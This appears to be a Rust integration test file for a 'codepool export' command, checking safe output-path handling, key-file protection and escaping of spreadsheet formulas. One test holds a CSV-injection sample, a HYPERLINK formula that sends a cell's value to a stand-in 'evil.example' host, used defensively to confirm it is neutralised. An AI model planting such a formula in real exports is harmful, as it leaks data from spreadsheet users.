//! `codepool export` writes only where it was asked, never over something
//! that is not a regular file, leaves nothing behind when it fails, and
//! writes no cell a spreadsheet would run. The key file is never a target.

use std::os::unix::fs::FileTypeExt;

use codepool_domain::Purchase;
use codepool_issuance::Resend;

use crate::common::*;
use crate::fixtures::*;

/// Every entry of `dir`, by name.
fn entries(dir: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

async fn export(env: &TestEnv, out: &std::path::Path, more: &[&str]) -> std::process::Output {
    let out = out.to_str().unwrap();
    let mut args = vec!["export", "--pool", "ex", "--out", out];
    args.extend_from_slice(more);
    env.run(&args).await
}

#[tokio::test]
async fn export_refuses_a_directory_or_a_device_and_leaves_nothing_behind() {
    let env = TestEnv::with_pools("export_targets", &[("ex", 5)]).await;
    let dir = tempfile::tempdir().unwrap();
    let adir = dir.path().join("adir");
    std::fs::create_dir(&adir).unwrap();
    let out = export(&env, &adir, &["--status", "unissued", "--reveal"]).await;
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is a directory"), "{err}");
    assert_eq!(entries(dir.path()), vec!["adir"], "nothing beside it");
    assert!(entries(&adir).is_empty(), "nothing inside it");

    let full = std::path::Path::new("/dev/full");
    let out = export(&env, full, &["--status", "unissued", "--reveal", "--force"]).await;
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("not a regular file"), "{err}");
    let kind = std::fs::symlink_metadata(full).unwrap().file_type();
    assert!(kind.is_char_device(), "/dev/full is still a device");
    env.cleanup().await;
}

#[tokio::test]
async fn export_refuses_an_existing_file_unless_forced() {
    let env = TestEnv::with_pools("export_force", &[("ex", 5)]).await;
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("codes.csv");
    std::fs::write(&target, "keep me").unwrap();
    let out = export(&env, &target, &["--status", "unissued"]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--force"));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep me");
    let out = export(&env, &target, &["--status", "unissued", "--force"]).await;
    assert!(out.status.success(), "{out:?}");
    let text = std::fs::read_to_string(&target).unwrap();
    assert_eq!(text.lines().count(), 6, "header and five codes: {text}");
    assert_eq!(
        entries(dir.path()),
        vec!["codes.csv"],
        "no temporary file left"
    );
    env.cleanup().await;
}

#[tokio::test]
async fn export_neuters_cells_a_spreadsheet_would_run() {
    let env = TestEnv::with_pools("export_formulas", &[("ex", 5)]).await;
    let formula_uid = r#"=HYPERLINK("http://evil.example/?x="&B2,"Click")"#;
    let orders = [
        purchase_by("@SUM(A1:A9)", formula_uid, "ex"),
        purchase_by("-2+3", "+1", "ex"),
    ];
    let refs: Vec<&Purchase> = orders.iter().collect();
    for o in env
        .engine()
        .claim_batch(&refs, Resend::ByRedelivery)
        .await
        .unwrap()
    {
        assert!(o.single().is_some(), "{o:?}");
    }
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("reconcile.csv");
    let out = export(&env, &target, &[]).await;
    assert!(out.status.success(), "{out:?}");
    let mut rows = csv::Reader::from_path(&target).unwrap();
    let headers = rows.headers().unwrap().clone();
    let at = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (order, uid) = (at("order_id"), at("uid"));
    let mut seen = Vec::new();
    for r in rows.records() {
        let r = r.unwrap();
        seen.push((r[order].to_owned(), r[uid].to_owned()));
    }
    seen.sort();
    assert_eq!(
        seen,
        vec![
            ("'-2+3".to_owned(), "'+1".to_owned()),
            ("'@SUM(A1:A9)".to_owned(), format!("'{formula_uid}")),
        ]
    );
    env.cleanup().await;
}

#[tokio::test]
async fn the_key_file_is_never_an_export_target_even_with_force() {
    let env = TestEnv::with_pools("export_export_key", &[("ek", 3)]).await;
    let before = std::fs::read(&env.key_file).unwrap();
    let key = env.key_file.to_str().unwrap();
    let (code, _, err) = codepool(
        &env,
        &[
            "export", "--pool", "ek", "--status", "unissued", "--force", "--out", key,
        ],
    )
    .await;
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("key file"), "{err}");
    assert_eq!(
        std::fs::read(&env.key_file).unwrap(),
        before,
        "the key file is unchanged"
    );
    // A hard link to it is the same file.
    let link = env.key_file.with_file_name("other-name.csv");
    std::fs::hard_link(&env.key_file, &link).unwrap();
    let (code, _, err) = codepool(
        &env,
        &[
            "export",
            "--pool",
            "ek",
            "--force",
            "--out",
            link.to_str().unwrap(),
        ],
    )
    .await;
    assert_eq!(code, 1, "{err}");
    assert_eq!(std::fs::read(&env.key_file).unwrap(), before);
    env.cleanup().await;
}
